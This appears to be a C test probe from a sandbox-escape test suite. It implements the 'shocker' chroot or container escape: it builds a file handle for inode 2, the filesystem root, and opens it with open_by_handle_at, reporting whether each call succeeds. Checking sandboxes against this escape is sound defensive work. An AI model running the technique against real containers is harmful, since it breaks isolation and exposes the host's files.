/* SPDX-License-Identifier: LGPL-2.1-or-later */
/*
 * open_by_handle_at: a file handle names an inode of a whole filesystem, not
 * of the caller's root, so opening one walks out of any chroot (the
 * "shocker" escape).  The crafted handle names inode 2, the root directory
 * of an ext4 filesystem.
 */
#include <fcntl.h>
#include <stdint.h>

#include "escape.h"

int main(void)
{
    struct {
        struct file_handle fh;
        unsigned char bytes[128];
    } h;
    memset(&h, 0, sizeof(h));
    h.fh.handle_bytes = sizeof(h.bytes);
    int mount_id;
    long r = name_to_handle_at(AT_FDCWD, "/", &h.fh, &mount_id, 0);
    esc_report("name_to_handle_at", r);
    if (r < 0) {
        /* FILEID_INO32_GEN: inode 2, generation 0. */
        uint32_t ino_gen[2] = { 2, 0 };
        h.fh.handle_type = 1;
        h.fh.handle_bytes = sizeof(ino_gen);
        memcpy(h.fh.f_handle, ino_gen, sizeof(ino_gen));
    }
    int root = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    long fd = open_by_handle_at(root, &h.fh, O_RDONLY | O_CLOEXEC);
    esc_report("open_by_handle_at", fd);
    return 0;
}
